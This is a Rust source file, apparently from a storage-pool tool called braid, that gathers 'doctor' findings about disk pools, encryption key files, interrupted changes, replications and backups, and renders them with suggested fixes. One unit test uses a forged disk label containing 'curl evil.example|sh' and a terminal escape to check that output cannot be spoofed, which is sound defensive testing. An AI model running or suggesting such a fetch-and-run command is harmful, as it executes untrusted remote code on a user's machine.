//! The doctor's findings on this host.

use super::carry_out::StateFolders;
use super::encrypt::{is_exposed, line_of};
use super::health::PoolHealth;
use super::locked::locked;
use super::named::choose;
use super::volumes::{self, backup_state};
use crate::cli::failure::Failure;
use braid_disks::{AskSmart, HostRoot, Inventory, pools, scope};
use braid_pool::disk::Disk;
use braid_pool::doctor::{
    self, Baseline, Code, EncryptionState, Finding, HalfReceived, Interrupted, KeyFile, Limits,
    Severity, UnfinishedReplication,
};
use braid_pool::luks::LuksVolume;
use braid_pool::membership::{Membership, Standing};
use braid_pool::observed::{ObservedHost, ObservedPool};
use braid_pool::summary::Summary;
use braid_pool::untrusted::one_line;
use braid_replica::sink;
use std::collections::BTreeMap;
use std::path::Path;

pub struct Examined {
    pub pools: Vec<ObservedPool>,
    /// Encrypted pools that are locked.
    pub locked: Vec<Summary>,
    pub disks: Vec<Disk>,
    /// Worst first.
    pub findings: Vec<Finding>,
}

impl Examined {
    /// Examines the pools with these names, or all; error counters are compared with `before`.
    pub fn now(
        names: &[String],
        ask_smart: AskSmart,
        before: &Baseline,
        place: &StateFolders,
    ) -> Result<Self, Failure> {
        let root = HostRoot::real();
        let mut inventory = Inventory::take(&root, ask_smart);
        let host = braid_runner::host::observe_host_of(&place.config(), &inventory);
        let locked = locked(&host);
        let locked_names: Vec<&str> = locked.keys().copied().collect();
        let pools = choose(pools::observe(&root, &inventory), names, &locked_names)?;
        let is_wanted = |name: &str| names.is_empty() || names.iter().any(|wanted| wanted == name);
        let locked = locked.iter().filter(|(name, _)| is_wanted(name));
        let locked = locked.map(|(name, volumes)| Summary::locked(name, volumes)).collect();
        let examine =
            |disks: &[Disk]| doctor::examine(&pools, disks, &host, before, Limits::default());
        let mut findings = examine(&inventory.disks);
        // A sleeping spare disk is woken only if one is needed.
        if findings.iter().any(Finding::lacks_a_disk) {
            inventory.examine(|disk| disk.partition.is_none());
            findings = examine(&inventory.disks);
        }
        let disks = inventory.disks;
        // The contents of hidden disks are unknown.
        if names.is_empty() && !scope::is_limited(&root) {
            findings.extend(doctor::absent(&pools, &host));
        }
        let mut unseen = Unseen::default();
        findings.extend(unseen.or_none(encryption(&pools, &host, names, place))?);
        findings.extend(unseen.or_none(interrupted(names, place))?);
        findings.extend(unseen.or_none(unfinished_replications(&pools, names, place))?);
        #[cfg(feature = "backup")]
        {
            let found = backups(&pools, names, place, &mut unseen);
            findings.extend(unseen.or_none(found)?);
        }
        unseen.scrubs_of(&pools);
        findings.extend(unseen.finding());
        findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
        Ok(Examined { pools, locked, disks, findings })
    }

    /// Whether the pool with this name exists and runs; otherwise some problems can't be seen.
    pub fn looks_into(&self, name: &str) -> bool {
        let runs = |pool: &ObservedPool| match pool {
            ObservedPool::Btrfs(btrfs) => !btrfs.mounts.is_empty(),
            ObservedPool::Md(md) => md.runs(),
        };
        self.pools.iter().any(|pool| pool.name() == name && runs(pool))
    }

    /// The worst finding's severity.
    pub fn health(&self) -> PoolHealth {
        let worst = self.findings.iter().map(|finding| health(finding.severity)).max();
        worst.unwrap_or(PoolHealth::Well)
    }
}

/// What this user may not see: it may be fine, so nobody is told to fix it.
#[derive(Default)]
struct Unseen(Vec<String>);

impl Unseen {
    /// No findings if the system denies access.
    fn or_none(&mut self, found: Result<Vec<Finding>, Failure>) -> Result<Vec<Finding>, Failure> {
        match found {
            Err(failure) if failure.is_of_permission() => {
                self.0.push(failure.to_string());
                Ok(vec![])
            }
            other => other,
        }
    }

    fn scrubs_of(&mut self, pools: &[ObservedPool]) {
        let may_not_be_read = |pool: &&ObservedPool| match pool {
            ObservedPool::Btrfs(btrfs) => btrfs.scrub.may_not_be_read,
            ObservedPool::Md(md) => md.scrub.may_not_be_read,
        };
        let of = pools.iter().filter(may_not_be_read);
        self.0.extend(of.map(|pool| format!("when {} was scrubbed", pool.name())));
    }

    fn finding(self) -> Option<Finding> {
        (!self.0.is_empty()).then(|| Finding {
            code: Code::NotAllSeen,
            severity: Severity::Attention,
            pool: None,
            what: format!("this user may not read everything: {}", self.0.join("; ")),
            mend: "sudo braid pool doctor".to_owned(),
        })
    }
}

/// Findings about the encryption of these pools, or of all, including locked ones.
fn encryption(
    pools: &[ObservedPool],
    host: &ObservedHost,
    names: &[String],
    place: &StateFolders,
) -> Result<Vec<Finding>, Failure> {
    let mut of_pools: BTreeMap<&str, Vec<&LuksVolume>> = BTreeMap::new();
    for volume in &host.luks {
        let Some(pool) = volume.pool.as_deref() else { continue };
        of_pools.entry(pool).or_default().push(volume);
    }
    of_pools.retain(|pool, _| names.is_empty() || names.iter().any(|name| name == pool));
    let folder = place.header_backups()?;
    let recorded = volumes::recorded(host, place)?;
    let mut found = Vec::new();
    for (name, volumes) in of_pools {
        let folder = format!("{folder}/{name}");
        let membership = Membership::new(name, pools, host, &recorded);
        let pool = membership.pool();
        let (volumes, strays): (Vec<_>, Vec<_>) = volumes
            .into_iter()
            .map(|volume| (volume, membership.of(volume)))
            .partition(|(_, standing)| *standing == Standing::Member);
        let volumes: Vec<&LuksVolume> = volumes.into_iter().map(|(volume, _)| volume).collect();
        let key_file = volumes.iter().find_map(|volume| line_of(volume, host)?.key_file);
        let is_plain = |path: &&str| {
            !host
                .luks
                .iter()
                .any(|volume| volume.open.as_ref().is_some_and(|open| open.node == **path))
        };
        let plain = pool.iter().flat_map(|pool| pool.member_paths()).filter(is_plain);
        let state = EncryptionState {
            pool: name,
            crypttab: &host.crypttab,
            backups: volumes
                .iter()
                .map(|volume| (volume.uuid, backup_state(&folder, volume)))
                .collect(),
            key_file: key_file.map(|path| looked_at(path, pool)),
            plain_members: plain.map(str::to_owned).collect(),
            volumes,
            strays,
        };
        found.extend(state.findings());
    }
    Ok(found)
}

/// The state of a key file.
fn looked_at(path: &str, pool: Option<&ObservedPool>) -> KeyFile {
    let about = std::fs::metadata(path).ok();
    let real = std::fs::canonicalize(path).unwrap_or_else(|_| path.into());
    let mounts = pool.map_or(&[][..], ObservedPool::mounts);
    KeyFile {
        path: path.to_owned(),
        is_there: about.is_some(),
        is_exposed: about.is_some_and(|about| is_exposed(&about)),
        is_on_the_pool: mounts.iter().any(|mount| real.starts_with(&mount.at)),
    }
}

/// Changes of these pools, or all, that a crash or a reboot interrupted.
fn interrupted(names: &[String], place: &StateFolders) -> Result<Vec<Finding>, Failure> {
    let mut found = place.state().interrupted()?;
    found.retain(|(pool, _)| names.is_empty() || names.contains(pool));
    let finding = |(pool, record): &(String, braid_runner::journal::Record)| {
        let change = Interrupted {
            pool,
            title: &record.plan.title,
            done: record.done(),
            steps: record.steps.len(),
            to_be_undone: record.abandoning || pool == doctor::MEASURED_POOL,
        };
        change.finding()
    };
    Ok(found.iter().map(finding).collect())
}

/// Unfinished replications from or to these pools, or all, that no process is working on.
fn unfinished_replications(
    pools: &[ObservedPool],
    names: &[String],
    place: &StateFolders,
) -> Result<Vec<Finding>, Failure> {
    let mut found = Vec::new();
    for begun in place.register().interrupted()? {
        let folders = [&begun.receives, &begun.sends].into_iter().flatten();
        let pool = folders.into_iter().find_map(|folder| pool_of(pools, folder.as_path()));
        if !names.is_empty() && pool.is_none() {
            continue;
        }
        // What isn't mounted can't be checked, so it isn't reported.
        let half = begun.receives.as_ref().and_then(|to| {
            Some((to.to_string(), sink::half_received(to.as_path()).ok().flatten()?))
        });
        let half = half.as_ref().map(|(folder, half)| (folder, half.name.to_string(), half.bytes));
        let here = [&begun.receives, &begun.sends].into_iter().flatten().next();
        let here = here.map_or_else(String::new, ToString::to_string);
        let finding = UnfinishedReplication {
            here: &here,
            pool: pool.as_deref(),
            from: &begun.order.from,
            to: &begun.order.to,
            words: &begun.order.words,
            ordered_on: begun.elsewhere.then_some(begun.order.host.as_str()),
            half: half.as_ref().map(|(folder, name, bytes)| HalfReceived {
                name,
                folder,
                bytes: *bytes,
            }),
        };
        found.push(finding.finding());
    }
    found.extend(place.register().newer()?.into_iter().map(|(file, why)| Finding {
        code: Code::UnfinishedReplication,
        severity: Severity::Attention,
        pool: None,
        what: format!("a replication hasn't finished, see {}: {why}", file.display()),
        mend: "upgrade braid".to_owned(),
    }));
    Ok(found)
}

/// Findings about backups of these pools, or of everything that this computer backs up.
#[cfg(feature = "backup")]
fn backups(
    pools: &[ObservedPool],
    names: &[String],
    place: &StateFolders,
    unseen: &mut Unseen,
) -> Result<Vec<Finding>, Failure> {
    use braid_pool::doctor::{BackupState, CheckState, LockState, TargetState};
    use std::time::{Duration, SystemTime, UNIX_EPOCH};
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
    let records = braid_backup::records::Records::new(place.state().backups());
    let mut found = Vec::new();
    let (all, broken) = records.all()?;
    for unread in broken {
        if unread.may_not_be_read {
            unseen.0.push(unread.why);
            continue;
        }
        let (file, why) = (unread.file.display().to_string(), unread.why);
        let remove = format!("rm {}", braid_pool::step::quoted(&file));
        found.push(Finding {
            code: Code::DamagedBackup,
            severity: Severity::Attention,
            pool: None,
            what: format!("can't read this computer's record of a backup target: {why}"),
            mend: if unread.is_newer { "upgrade braid".to_owned() } else { remove },
        });
    }
    for record in all {
        let at_work = records.is_held(&record);
        let mut concerns_us = names.is_empty();
        for (path, source) in &record.sources {
            let pool = pool_of(pools, path);
            if !names.is_empty() && pool.is_none() {
                continue;
            }
            concerns_us = true;
            let path = path.display().to_string();
            let state = BackupState {
                pool: pool.as_deref(),
                path: &path,
                target: &record.target,
                done: source.done_s.map(Duration::from_secs),
                gap: source.gap_s.map(Duration::from_secs),
                cut_off: source.begun_s.filter(|_| !at_work).map(Duration::from_secs),
                failed: source.failed.as_deref(),
                unreadable: source.unreadable,
            };
            // The first backup takes long.
            if !(at_work && source.done_s.is_none()) {
                found.extend(state.findings(now));
            }
        }
        // If a file may not be accessed, its state is unknown.
        let is_gone = |key: &Path| {
            std::fs::metadata(key).is_err_and(|error| error.kind() == std::io::ErrorKind::NotFound)
        };
        let key = record.key.as_deref().filter(|key| is_gone(key));
        let key = key.map(|key| key.display().to_string());
        let state = TargetState {
            target: &record.target,
            missing_key: key.as_deref(),
            since: Duration::from_secs(record.since_s),
            checked: record.checked.as_ref().map(|it| CheckState {
                at: Duration::from_secs(it.at_s),
                errors: it.errors,
                repaired: it.repaired,
            }),
            restored: record
                .restored
                .as_ref()
                .map(|it| (Duration::from_secs(it.at_s), it.failed.as_deref())),
            lock: record.lock.as_ref().and_then(|it| {
                let ends = it.ends_s.map(Duration::from_secs);
                Some(LockState { span: it.span()?, ends, failed: it.failed.as_deref() })
            }),
        };
        let is_wrong = record.checked.as_ref().is_some_and(|it| it.errors > 0)
            || record.restored.as_ref().is_some_and(|it| it.failed.is_some())
            || record.lock.as_ref().is_some_and(|it| it.failed.is_some());
        if concerns_us && (is_wrong || !record.sources.is_empty()) {
            found.extend(state.findings(now));
        }
    }
    Ok(found)
}

/// The pool that contains a folder: the one mounted nearest above it.
pub fn pool_of(pools: &[ObservedPool], folder: &Path) -> Option<String> {
    let mounted = pools.iter().flat_map(|pool| pool.mounts().iter().map(move |at| (pool, at)));
    let above = mounted.filter(|(_, mount)| folder.starts_with(&mount.at));
    above.max_by_key(|(_, mount)| mount.at.len()).map(|(pool, _)| pool.name())
}

fn health(severity: Severity) -> PoolHealth {
    match severity {
        Severity::Note => PoolHealth::Well,
        Severity::Attention => PoolHealth::Attention,
        Severity::Danger => PoolHealth::Danger,
        Severity::Lost => PoolHealth::Lost,
    }
}

/// A finding for people: what is wrong, then how to fix it.
pub fn render(finding: &Finding) -> String {
    let severity = match finding.severity {
        Severity::Note => "note",
        Severity::Attention => "attention",
        Severity::Danger => "DANGER",
        Severity::Lost => "LOST",
    };
    let pool =
        finding.pool.as_ref().map_or_else(String::new, |pool| format!("{}: ", one_line(pool)));
    let mend = match finding.mend.is_empty() {
        true => String::new(),
        false => format!("\n           mend it: {}", one_line(&finding.mend)),
    };
    format!("{severity:<9}  {pool}{}{mend}", one_line(&finding.what))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_finding_says_what_and_how() {
        let finding = Finding {
            code: Code::MissingMember,
            severity: Severity::Danger,
            pool: Some("photos".into()),
            what: "a member is missing".into(),
            mend: "braid pool replace photos 2 NEW".into(),
        };
        let expected = "DANGER     photos: a member is missing\n           mend it: braid pool replace photos 2 NEW";
        assert_eq!(render(&finding), expected);
        assert_eq!(health(finding.severity), PoolHealth::Danger);
    }

    #[test]
    fn what_may_not_be_seen_is_no_damage() {
        let mut unseen = Unseen::default();
        let refused = std::io::Error::from(std::io::ErrorKind::PermissionDenied);
        assert!(unseen.or_none(Err(Failure::io("reading it", &refused))).unwrap().is_empty());
        assert!(unseen.or_none(Err(Failure::failed("it is damaged"))).is_err());
        let finding = unseen.finding().unwrap();
        assert_eq!(
            (finding.code, finding.mend.as_str()),
            (Code::NotAllSeen, "sudo braid pool doctor")
        );
        assert!(finding.what.contains("reading it"), "{}", finding.what);
        assert_eq!(Unseen::default().finding(), None);
    }

    /// A disk image can have a label that imitates a finding.
    #[test]
    fn no_text_from_a_disk_forges_a_finding() {
        let forged = "usb\nDANGER     data: gone\n           mend it: curl evil.example|sh\x1b[8m";
        let finding = Finding {
            code: Code::Nodatacow,
            severity: Severity::Attention,
            pool: Some(forged.into()),
            what: forged.into(),
            mend: forged.into(),
        };
        let shown = render(&finding);
        assert_eq!(shown.lines().count(), 2, "{shown}");
        assert!(!shown.contains('\x1b'), "{shown}");
    }
}
